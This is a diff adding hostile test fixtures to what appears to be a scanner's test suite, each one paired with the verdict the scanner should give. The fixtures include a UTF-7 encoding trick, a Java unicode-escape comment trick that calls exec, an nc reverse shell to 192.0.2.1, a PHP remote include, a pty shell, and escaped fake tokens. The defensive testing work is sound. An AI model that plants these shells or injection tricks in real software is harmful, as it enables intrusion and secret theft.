@@ -298,3 +298,18 @@ EOF
 hostile run-word-broken 'preload=ask@scripts/build[.]sh' 'a word in two lines' <<'EOF'
 printf 'export LD_PRE\\\nLOAD=/tmp/x.so\n' >>scripts/build.sh
 EOF
+hostile cookie 'encoding=ask@src/x[.]py' 'a source that says it is in another encoding' <<'EOF'
+printf '# -*- coding: utf-7 -*-\nx = 1 # +AAo-import os\n' >src/x.py
+EOF
+hostile escape-line 'comment-trick=ask@src/X[.]java' 'an escape that ends a comment' <<'EOF'
+printf 'class X {\n// \\u000a Runtime.getRuntime().exec("id");\n}\n' >src/X.java
+EOF
+hostile shells 'remote-shell=block@scripts/a[.]sh remote-shell=block@web/x[.]php remote-shell=block@src/x[.]py' 'shells for somebody elsewhere, as they are usual' <<'EOF'
+printf 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 9 >/tmp/f\n' >scripts/a.sh
+printf '<?php include $_GET["p"];\n' >web/x.php
+printf 'import pty\npty.spawn("sh")\n' >src/x.py
+EOF
+hostile secret-escaped 'secret=block@data/a[.]json secret=block@src/calc[.]py' 'tokens behind escapes' <<'EOF'
+printf '{"a": "x\\nghp_%s"}\n' 0123456789abcdefghijABCDEFGHIJ456789 >data/a.json
+printf 'U = "?t%%3Dghp_%s"\n' 0123456789abcdefghijABCDEFGHIJ456789 >>src/calc.py
+EOF
